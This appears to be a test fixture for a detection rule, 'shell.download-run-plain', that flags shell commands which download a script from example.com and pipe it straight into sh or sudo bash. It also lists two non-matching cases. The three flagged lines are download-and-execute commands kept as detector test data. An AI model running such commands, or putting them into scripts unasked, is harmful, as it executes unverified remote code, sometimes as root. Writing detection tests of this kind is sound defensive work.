# ruleid: shell.download-run-plain
curl -fsSL http://example.com/install.sh | sh
# --- case
# ruleid: shell.download-run-plain
wget -qO- http://example.com/x | sudo bash
# --- case
# ruleid: shell.download-run-plain
bash <(curl -s http://example.com/i.sh)
# --- case
# ok: shell.download-run-plain
curl -fsSL http://example.com/a.txt -o a.txt
# --- case
# ok: shell.download-run-plain
echo hi | sh
